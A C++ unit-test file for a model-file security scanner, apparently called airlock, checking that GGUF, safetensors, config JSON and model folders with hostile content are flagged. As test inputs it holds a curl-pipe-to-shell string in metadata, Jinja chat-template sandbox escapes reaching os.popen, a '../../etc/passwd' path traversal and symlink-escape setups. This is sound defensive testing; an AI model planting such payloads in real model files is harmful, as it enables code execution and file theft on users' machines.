// The GGUF, safetensors, JSON and model-folder analyzers, through the public scan API.
#include <grp.h>
#include <gtest/gtest.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstring>
#include <filesystem>
#include <fstream>

#include "core/file.h"
#include "formats/gguf.h"
#include "formats/gguf_writer.h"
#include "scan/inspect.h"
#include "scan/scan.h"
#include "status_matchers.h"
#include "test_util.h"

using ::airlock::testing::IsOk;

namespace airlock::scan {
namespace {

namespace gguf = formats::gguf;
namespace fs = std::filesystem;

FileReport ScanString(const std::string& bytes, const std::string& name) {
  return ScanBuffer(core::AsBytes(bytes), name, ScanOptions{});
}

bool HasRule(const FileReport& r, std::string_view rule) {
  for (const auto& f : r.findings)
    if (f.rule_id == rule) return true;
  return false;
}

std::string Rules(const FileReport& r) {
  std::string s;
  for (const auto& f : r.findings) s += f.rule_id + " (" + f.message + "); ";
  return s;
}

std::vector<std::byte> Zeros(std::size_t n) { return std::vector<std::byte>(n, std::byte{0}); }

gguf::Writer CleanModel() {
  gguf::Writer w;
  w.AddString("general.architecture", "llama");
  w.AddString("general.name", "tiny");
  w.AddUint32("llama.block_count", 1);
  w.AddUint32("llama.context_length", 64);
  w.AddUint32("llama.embedding_length", 8);
  w.AddStringArray("tokenizer.ggml.tokens", {"<unk>", "<s>", "</s>", "a"});
  w.AddFloat32Array("tokenizer.ggml.scores", {0, 0, 0, 0});
  w.AddInt32Array("tokenizer.ggml.token_type", {2, 3, 3, 1});
  w.AddUint32("tokenizer.ggml.bos_token_id", 1);
  w.AddUint32("tokenizer.ggml.eos_token_id", 2);
  auto d = Zeros(4 * 8 * 4);
  w.AddTensor("token_embd.weight", gguf::GgmlType::kF32, {8, 4}, d);
  return w;
}

TEST(GgufScan, CleanModelIsClean) {
  FileReport r = ScanString(CleanModel().Build(), "m.gguf");
  EXPECT_EQ(r.format, "gguf");
  EXPECT_EQ(r.verdict, Verdict::kClean) << Rules(r);
}

TEST(GgufScan, StructuralErrorsBecomeFindingsWithOffsets) {
  std::string b = CleanModel().Build();
  std::uint64_t huge = ~0ull;
  std::memcpy(b.data() + 16, &huge, 8);  // n_kv
  FileReport r = ScanString(b, "m.gguf");
  EXPECT_TRUE(HasRule(r, "gguf.bad-kv-count")) << Rules(r);
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
  ASSERT_FALSE(r.findings.empty());
  EXPECT_EQ(r.findings[0].offset, 16u);
  EXPECT_TRUE(r.findings[0].incomplete);

  // A download cut inside the tensor data: inconclusive, not malicious.
  gguf::Writer big = CleanModel();
  auto data = Zeros(4096);
  big.AddTensor("output.weight", gguf::GgmlType::kF32, {8, 128}, data);
  std::string good = big.Build();
  FileReport t = ScanString(good.substr(0, good.size() - 200), "m.gguf");
  EXPECT_EQ(t.verdict, Verdict::kInconclusive) << Rules(t);
  EXPECT_TRUE(HasRule(t, "gguf.tensor-out-of-bounds") || HasRule(t, "gguf.truncated")) << Rules(t);

  gguf::Writer overlap = CleanModel();
  auto d = Zeros(32);
  overlap.AddTensor("x", gguf::GgmlType::kF32, {8}, d);
  overlap.OverrideTensorOffset(1, 0);
  FileReport o = ScanString(overlap.Build(), "m.gguf");
  EXPECT_TRUE(HasRule(o, "gguf.tensor-overlap")) << Rules(o);
  EXPECT_EQ(o.verdict, Verdict::kMalicious);
}

// Scanning and inspecting read the header only: with the tensor data made unreadable
// (PROT_NONE), both still complete. (Tensors are multiples of the alignment, so there is no
// padding to check either.)
TEST(GgufScan, NeverTouchesTensorData) {
  const std::size_t page = static_cast<std::size_t>(::sysconf(_SC_PAGESIZE));
  gguf::Writer big(static_cast<std::uint32_t>(page));
  big.AddString("general.architecture", "llama");
  big.AddUint32("llama.block_count", 1);
  auto d = Zeros(page * 4);
  big.AddTensor("a", gguf::GgmlType::kF32, {page}, d);
  big.AddTensor("b", gguf::GgmlType::kF32, {page}, d);
  std::string bytes = big.Build();
  void* mem =
      ::mmap(nullptr, bytes.size(), PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  ASSERT_NE(mem, MAP_FAILED);
  std::memcpy(mem, bytes.data(), bytes.size());
  auto parsed = gguf::File::Parse(core::AsBytes(bytes));
  ASSERT_THAT(parsed, IsOk());
  ASSERT_EQ(parsed->data_offset() % page, 0u);
  auto* base = static_cast<std::byte*>(mem);
  ASSERT_EQ(
      ::mprotect(base + parsed->data_offset(), bytes.size() - parsed->data_offset(), PROT_NONE), 0);
  std::span<const std::byte> view(base, bytes.size());
  // The guard works: reading tensor data would crash.
  EXPECT_DEATH(
      {
        volatile std::byte x = view[parsed->data_offset()];
        (void)x;
      },
      "");
  FileReport r = ScanBuffer(view, "big.gguf", ScanOptions{});
  EXPECT_EQ(r.verdict, Verdict::kClean) << Rules(r);
  auto summary = InspectBuffer(view, "big.gguf");
  EXPECT_THAT(summary, IsOk());
  ::munmap(mem, bytes.size());
}

TEST(GgufScan, VocabAndSpecialTokens) {
  gguf::Writer w = CleanModel();
  w.AddUint32("tokenizer.ggml.padding_token_id", 4000);
  FileReport r = ScanString(w.Build(), "m.gguf");
  EXPECT_TRUE(HasRule(r, "gguf.special-token-out-of-range")) << Rules(r);
  EXPECT_EQ(r.verdict, Verdict::kMalicious);

  gguf::Writer v;
  v.AddString("general.architecture", "llama");
  v.AddStringArray("tokenizer.ggml.tokens", {"a", "b", "c"});
  v.AddFloat32Array("tokenizer.ggml.scores", {0, 0});
  FileReport s = ScanString(v.Build(), "m.gguf");
  EXPECT_TRUE(HasRule(s, "gguf.vocab-length-mismatch")) << Rules(s);
}

TEST(GgufScan, TrailingDataAndMetadataCode) {
  FileReport r = ScanString(CleanModel().Build() + "#!/bin/sh\necho hi\n", "m.gguf");
  EXPECT_TRUE(HasRule(r, "gguf.trailing-data")) << Rules(r);
  EXPECT_NE(r.verdict, Verdict::kClean);

  gguf::Writer w = CleanModel();
  w.AddString("general.description", "import os; os.system('curl http://x.example | sh')");
  FileReport c = ScanString(w.Build(), "m.gguf");
  EXPECT_TRUE(HasRule(c, "gguf.metadata-code")) << Rules(c);
  EXPECT_EQ(c.verdict, Verdict::kMalicious);
}

TEST(GgufScan, ComputedSubscriptKeyInAChatTemplateIsMalicious) {
  // Red team: a key kept in a variable reached Python internals and scanned clean (exit 0).
  const std::string payload = "{% set k='__class__' %}{{ ''[k] }}";
  gguf::Writer w = CleanModel();
  w.AddString("tokenizer.chat_template", payload);
  FileReport g = ScanString(w.Build(), "m.gguf");
  EXPECT_EQ(g.verdict, Verdict::kMalicious) << Rules(g);
  FileReport j =
      ScanString(R"({"chat_template":"{% for k in ['__class__'] %}{{ ''[k] }}{% endfor %}"})",
                 "tokenizer_config.json");
  EXPECT_EQ(j.verdict, Verdict::kMalicious) << Rules(j);
}

TEST(GgufScan, ChatTemplatesGoToTheTemplateAnalyzer) {
  gguf::Writer w = CleanModel();
  std::string hostile = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
  w.AddString("tokenizer.chat_template", hostile);
  w.AddString("tokenizer.chat_template.tool_use", hostile);
  std::string bytes = w.Build();
  FileReport r = ScanString(bytes, "m.gguf");
  EXPECT_NE(r.verdict, Verdict::kClean) << Rules(r);
  // Findings about the template point into the template text, not at the file start.
  auto pos = bytes.find(hostile);
  ASSERT_NE(pos, std::string::npos);
  bool pointed = false;
  for (const auto& f : r.findings)
    if (f.offset && *f.offset >= pos) pointed = true;
  EXPECT_TRUE(pointed) << Rules(r);
}

TEST(GgufScan, VocabFixturesScanWithoutGgufFindings) {
  AIRLOCK_FIXTURES_OR_SKIP(dir, "llama-vocab");
  int n = 0;
  for (const auto& e : fs::directory_iterator(dir)) {
    if (e.path().extension() != ".gguf") continue;
    auto m = core::MappedFile::Open(e.path().string());
    ASSERT_THAT(m, IsOk());
    FileReport r = ScanBuffer(m->bytes(), e.path().string(), ScanOptions{});
    EXPECT_EQ(r.format, "gguf");
    for (const auto& f : r.findings) {
      EXPECT_NE(f.rule_id.rfind("gguf.", 0), 0u)
          << e.path().filename() << ": " << f.rule_id << " " << f.message;
    }
    auto parsed = gguf::File::Parse(m->bytes());
    ASSERT_THAT(parsed, IsOk());
    if (!parsed->Find("tokenizer.chat_template")) {
      EXPECT_EQ(r.verdict, Verdict::kClean) << e.path().filename() << ": " << Rules(r);
    }
    ++n;
  }
  EXPECT_GE(n, 10);
}

TEST(SafetensorsScan, FixtureVerdicts) {
  AIRLOCK_FIXTURES_OR_SKIP(dir, "modelaudit/samples/safetensors");
  auto scan = [&](const char* name) {
    auto m = core::MappedFile::Open((dir / name).string());
    EXPECT_THAT(m, IsOk());
    return ScanBuffer(m->bytes(), name, ScanOptions{});
  };
  EXPECT_EQ(scan("safe_model.safetensors").verdict, Verdict::kClean);
  FileReport mal = scan("malicious_import.safetensors");
  EXPECT_EQ(mal.verdict, Verdict::kMalicious);
  EXPECT_TRUE(HasRule(mal, "safetensors.metadata-code"));
  {
    // The finding points at the metadata key in the header.
    auto m = core::MappedFile::Open((dir / "malicious_import.safetensors").string());
    ASSERT_THAT(m, IsOk());
    auto key_at = core::AsStringView(m->bytes()).find("\"model_info\"");
    ASSERT_NE(key_at, std::string_view::npos);
    bool found = false;
    for (const auto& f : mal.findings)
      found |= f.rule_id == "safetensors.metadata-code" && f.offset == key_at;
    EXPECT_TRUE(found) << Rules(mal);
  }
  for (const char* suspicious : {"multiple_patterns.safetensors", "obfuscated_metadata.safetensors",
                                 "script_injection.safetensors", "shell_commands.safetensors",
                                 "suspicious_url.safetensors"}) {
    EXPECT_NE(scan(suspicious).verdict, Verdict::kClean) << suspicious;
  }
}

std::string Le64(std::uint64_t v) {
  std::string s(8, '\0');
  std::memcpy(s.data(), &v, 8);
  return s;
}

TEST(SafetensorsScan, NeverTouchesTensorData) {
  const std::size_t page = static_cast<std::size_t>(::sysconf(_SC_PAGESIZE));
  std::string h =
      R"({"__metadata__":{"format":"pt"},"w":{"dtype":"F32","shape":[4096],"data_offsets":[0,16384]}})";
  h.resize(page - 8, ' ');  // data starts on the second page
  std::string bytes = Le64(h.size()) + h + std::string(16384, '\0');
  void* mem =
      ::mmap(nullptr, bytes.size(), PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  ASSERT_NE(mem, MAP_FAILED);
  std::memcpy(mem, bytes.data(), bytes.size());
  auto* base = static_cast<std::byte*>(mem);
  ASSERT_EQ(::mprotect(base + page, bytes.size() - page, PROT_NONE), 0);
  std::span<const std::byte> view(base, bytes.size());
  FileReport r = ScanBuffer(view, "m.safetensors", ScanOptions{});
  EXPECT_EQ(r.verdict, Verdict::kClean) << Rules(r);
  EXPECT_TRUE(InspectBuffer(view, "m.safetensors").ok());
  ::munmap(mem, bytes.size());
}

TEST(SafetensorsScan, MalformedHeaders) {
  std::string h =
      R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}})";
  FileReport r = ScanString(Le64(h.size()) + h + "x", "m.safetensors");
  EXPECT_EQ(r.format, "safetensors");
  EXPECT_TRUE(HasRule(r, "safetensors.duplicate-key")) << Rules(r);
  EXPECT_EQ(r.verdict, Verdict::kMalicious);

  std::string g = R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}})";
  FileReport poly = ScanString(Le64(g.size()) + g + "x" + "<html>polyglot</html>", "m.safetensors");
  EXPECT_TRUE(HasRule(poly, "safetensors.trailing-data")) << Rules(poly);
  EXPECT_NE(poly.verdict, Verdict::kClean);

  FileReport ok = ScanString(Le64(g.size()) + g + "x", "m.safetensors");
  EXPECT_EQ(ok.verdict, Verdict::kClean) << Rules(ok);

  std::string u = R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1],"hidden":"payload"}})";
  FileReport unk = ScanString(Le64(u.size()) + u + "x", "m.safetensors");
  EXPECT_TRUE(HasRule(unk, "safetensors.unknown-field")) << Rules(unk);
  EXPECT_NE(unk.verdict, Verdict::kClean);
}

TEST(JsonScan, ConfigAndIndexRules) {
  FileReport remote = ScanString(
      R"({"architectures":["X"],"auto_map":{"AutoModel":"modeling_x.XModel"}})", "config.json");
  EXPECT_TRUE(HasRule(remote, "config.remote-code")) << Rules(remote);
  EXPECT_NE(remote.verdict, Verdict::kClean);
  FileReport external =
      ScanString(R"({"auto_map":{"AutoModel":"evil/repo--modeling_x.XModel"}})", "config.json");
  EXPECT_TRUE(HasRule(external, "config.remote-code-external")) << Rules(external);
  EXPECT_EQ(external.verdict, Verdict::kMalicious);

  FileReport plain =
      ScanString(R"({"architectures":["LlamaForCausalLM"],"hidden_size":8})", "config.json");
  EXPECT_EQ(plain.verdict, Verdict::kClean) << Rules(plain);

  FileReport traversal = ScanString(
      R"({"metadata":{},"weight_map":{"a":"../../etc/passwd","b":"model-00001-of-00001.safetensors"}})",
      "model.safetensors.index.json");
  EXPECT_TRUE(HasRule(traversal, "index.path-traversal")) << Rules(traversal);
  EXPECT_EQ(traversal.verdict, Verdict::kMalicious);

  FileReport tpl = ScanString(
      R"({"chat_template":[{"name":"default","template":"{{ cycler.__init__.__globals__.os.popen('id').read() }}"}]})",
      "tokenizer_config.json");
  EXPECT_NE(tpl.verdict, Verdict::kClean) << Rules(tpl);

  // Code tokenizers contain code-like tokens: vocabularies are not grepped.
  FileReport vocab =
      ScanString(R"({"model":{"vocab":{"os.system(":1,"eval(":2}}})", "tokenizer.json");
  EXPECT_EQ(vocab.verdict, Verdict::kClean) << Rules(vocab);
}

void WriteFile(const fs::path& p, const std::string& s) {
  fs::create_directories(p.parent_path());
  std::ofstream(p, std::ios::binary) << s;
}

std::string Safetensors(const std::vector<std::string>& names) {
  std::string h = "{";
  for (std::size_t i = 0; i < names.size(); ++i) {
    if (i) h += ",";
    h += "\"" + names[i] + "\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[" +
         std::to_string(i) + "," + std::to_string(i + 1) + "]}";
  }
  h += "}";
  return Le64(h.size()) + h + std::string(names.size(), '\0');
}

FileReport FolderReport(const ScanReport& r) {
  for (const auto& f : r.files)
    if (f.format == "model-folder") return f;
  return {};
}

TEST(FolderScan, RemoteCodeShardsAndSymlinks) {
  testing::TempDir tmp("folder");
  fs::path d = tmp.path() / "model";
  WriteFile(
      d / "config.json",
      R"({"auto_map":{"AutoModel":"modeling_x.XModel","AutoConfig":"configuration_x.XConfig"}})");
  WriteFile(d / "modeling_x.py", "class XModel: pass\n");
  WriteFile(
      d / "model.safetensors.index.json",
      R"({"metadata":{},"weight_map":{"a":"model-00001-of-00003.safetensors","b":"model-00002-of-00003.safetensors","c":"model-00003-of-00003.safetensors"}})");
  WriteFile(d / "model-00001-of-00003.safetensors", Safetensors({"a"}));
  WriteFile(d / "model-00002-of-00003.safetensors", Safetensors({"b", "hidden"}));
  WriteFile(tmp.path() / "secret.txt", "not part of the model\n");
  fs::create_symlink(tmp.path() / "secret.txt", d / "leak.txt");

  auto report = ScanPaths({d.string()}, ScanOptions{});
  ASSERT_THAT(report, IsOk());
  FileReport folder = FolderReport(*report);
  EXPECT_TRUE(HasRule(folder, "folder.remote-code-file")) << Rules(folder);
  EXPECT_TRUE(HasRule(folder, "folder.missing-remote-code"))
      << Rules(folder);  // configuration_x.py
  EXPECT_TRUE(HasRule(folder, "folder.missing-shard")) << Rules(folder);
  EXPECT_TRUE(HasRule(folder, "folder.index-mismatch")) << Rules(folder);
  EXPECT_TRUE(HasRule(folder, "folder.symlink-escape")) << Rules(folder);
  EXPECT_TRUE(HasRule(folder, "folder.code-inventory")) << Rules(folder);
  EXPECT_EQ(report->verdict, Verdict::kMalicious);
}

TEST(FolderScan, HuggingFaceCacheSnapshotLinksAreScanned) {
  testing::TempDir tmp("hfcache");
  fs::path repo = tmp.path() / "models--org--tiny";
  fs::path snap = repo / "snapshots" / "0123abcd";
  gguf::Writer w = CleanModel();
  w.AddUint32("tokenizer.ggml.padding_token_id", 999);  // out of range: malicious
  WriteFile(repo / "blobs" / "deadbeef", w.Build());
  fs::create_directories(snap);
  fs::create_symlink("../../blobs/deadbeef", snap / "model.gguf");
  auto report = ScanPaths({snap.string()}, ScanOptions{});
  ASSERT_THAT(report, IsOk());
  FileReport folder = FolderReport(*report);
  EXPECT_FALSE(HasRule(folder, "folder.symlink-escape")) << Rules(folder);
  EXPECT_TRUE(HasRule(folder, "gguf.special-token-out-of-range")) << Rules(folder);
  EXPECT_EQ(report->verdict, Verdict::kMalicious);
}

// Attack (red team): a FIFO or a unix socket named like weights inside a model folder, or a
// Hugging Face cache link whose blob is a FIFO, was skipped silently and the folder scanned
// clean; a loader opening it reads whatever a writer feeds it. The folder is now inconclusive.
TEST(FolderScan, SpecialFilesInAFolderMakeItInconclusive) {
  testing::TempDir tmp("special");
  {
    fs::path d = tmp.path() / "fifo";
    WriteFile(d / "config.json", R"({"architectures":["LlamaForCausalLM"]})");
    ASSERT_EQ(::mkfifo((d / "pytorch_model.bin").c_str(), 0600), 0);
    auto report = ScanPaths({d.string()}, ScanOptions{});
    ASSERT_THAT(report, IsOk());
    EXPECT_TRUE(HasRule(FolderReport(*report), "scan.special-file"))
        << Rules(FolderReport(*report));
    EXPECT_EQ(report->verdict, Verdict::kInconclusive);
  }
  {
    fs::path d = tmp.path() / "sock";
    WriteFile(d / "config.json", R"({"architectures":["LlamaForCausalLM"]})");
    const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    ASSERT_GE(fd, 0);
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    const std::string where = (d / "model.safetensors").string();
    if (where.size() >= sizeof(addr.sun_path)) GTEST_SKIP() << "socket path too long: " << where;
    std::memcpy(addr.sun_path, where.c_str(), where.size() + 1);
    ASSERT_EQ(::bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0);
    auto report = ScanPaths({d.string()}, ScanOptions{});
    ::close(fd);
    ASSERT_THAT(report, IsOk());
    EXPECT_TRUE(HasRule(FolderReport(*report), "scan.special-file"))
        << Rules(FolderReport(*report));
    EXPECT_EQ(report->verdict, Verdict::kInconclusive);
  }
  {
    fs::path repo = tmp.path() / "models--org--fifo";
    fs::path snap = repo / "snapshots" / "0123abcd";
    fs::create_directories(repo / "blobs");
    fs::create_directories(snap);
    ASSERT_EQ(::mkfifo((repo / "blobs" / "f00d").c_str(), 0600), 0);
    fs::create_symlink("../../blobs/f00d", snap / "model.bin");
    auto report = ScanPaths({snap.string()}, ScanOptions{});
    ASSERT_THAT(report, IsOk());
    EXPECT_TRUE(HasRule(FolderReport(*report), "scan.special-file"))
        << Rules(FolderReport(*report));
    EXPECT_EQ(report->verdict, Verdict::kInconclusive);
  }
}

// A link to a folder outside the model folder: its files are not scanned, so the folder is not
// clean (even where the link is a Hugging Face cache link, which is not an escape by itself).
TEST(FolderScan, LinkToAnOutsideFolderIsNotScannedAndNotClean) {
  testing::TempDir tmp("outside");
  fs::path repo = tmp.path() / "models--org--dir";
  fs::path snap = repo / "snapshots" / "0123abcd";
  WriteFile(repo / "blobs" / "sub" / "evil.pkl", "not scanned through the link");
  fs::create_directories(snap);
  fs::create_symlink("../../blobs/sub", snap / "weights");
  auto report = ScanPaths({snap.string()}, ScanOptions{});
  ASSERT_THAT(report, IsOk());
  EXPECT_TRUE(HasRule(FolderReport(*report), "scan.unscanned-folder"))
      << Rules(FolderReport(*report));
  EXPECT_NE(report->verdict, Verdict::kClean);
}

// A subfolder the scan cannot read was skipped silently (skip_permission_denied): its files were
// not vetted, so the folder is inconclusive. (Root reads everything: skipped as root.)
TEST(FolderScan, UnreadableSubfolderMakesTheFolderInconclusive) {
  testing::TempDir tmp("unreadable");
  fs::path d = tmp.path() / "model";
  WriteFile(d / "config.json", R"({"architectures":["LlamaForCausalLM"]})");
  WriteFile(d / "hidden" / "model.pkl", "unseen");
  fs::permissions(d / "hidden", fs::perms::none);
  // Root reads a folder without permissions: the scan then runs in a child as nobody (65534),
  // which can walk the test folders (0755) but not `hidden`. Result: 0 pass, else a failure code.
  int fds[2];
  ASSERT_EQ(::pipe(fds), 0);
  const pid_t child = ::fork();
  ASSERT_GE(child, 0);
  if (child == 0) {
    ::close(fds[0]);
    char code = 0;
    if (::geteuid() == 0 &&
        (::setgroups(0, nullptr) != 0 || ::setresgid(65534, 65534, 65534) != 0 ||
         ::setresuid(65534, 65534, 65534) != 0))
      code = 1;
    if (code == 0) {
      auto report = ScanPaths({d.string()}, ScanOptions{});
      if (!report.ok())
        code = 2;
      else if (!HasRule(FolderReport(*report), "scan.read-error"))
        code = 3;
      else if (report->verdict != Verdict::kInconclusive)
        code = 4;
    }
    (void)!::write(fds[1], &code, 1);
    ::_exit(0);
  }
  ::close(fds[1]);
  char code = 9;
  ASSERT_EQ(::read(fds[0], &code, 1), 1);
  ::close(fds[0]);
  ::waitpid(child, nullptr, 0);
  fs::permissions(d / "hidden", fs::perms::owner_all);
  EXPECT_EQ(code, 0) << "1: cannot drop to nobody, 2: scan error, 3: no scan.read-error, 4: "
                        "verdict not inconclusive";
}

TEST(FolderScan, ConsistentFolderIsClean) {
  testing::TempDir tmp("folder");
  fs::path d = tmp.path() / "model";
  WriteFile(d / "config.json", R"({"architectures":["LlamaForCausalLM"]})");
  WriteFile(
      d / "model.safetensors.index.json",
      R"({"metadata":{},"weight_map":{"a":"model-00001-of-00002.safetensors","b":"model-00002-of-00002.safetensors"}})");
  WriteFile(d / "model-00001-of-00002.safetensors", Safetensors({"a"}));
  WriteFile(d / "model-00002-of-00002.safetensors", Safetensors({"b"}));
  fs::create_symlink("model-00001-of-00002.safetensors", d / "alias.safetensors");
  WriteFile(d / "m-00001-of-00002.gguf", CleanModel().Build());
  auto report = ScanPaths({d.string()}, ScanOptions{});
  ASSERT_THAT(report, IsOk());
  FileReport folder = FolderReport(*report);
  EXPECT_TRUE(HasRule(folder, "folder.missing-shard")) << Rules(folder);  // gguf part 2 of 2
  gguf::Writer split = CleanModel();
  split.AddUint16("split.no", 1);  // says part 2, named part 1
  split.AddUint16("split.count", 2);
  WriteFile(d / "m-00001-of-00002.gguf", split.Build());
  report = ScanPaths({d.string()}, ScanOptions{});
  ASSERT_THAT(report, IsOk());
  EXPECT_TRUE(HasRule(FolderReport(*report), "folder.split-mismatch"))
      << Rules(FolderReport(*report));
  fs::remove(d / "m-00001-of-00002.gguf");
  report = ScanPaths({d.string()}, ScanOptions{});
  ASSERT_THAT(report, IsOk());
  EXPECT_EQ(report->verdict, Verdict::kClean) << Rules(FolderReport(*report));
}

}  // namespace
}  // namespace airlock::scan
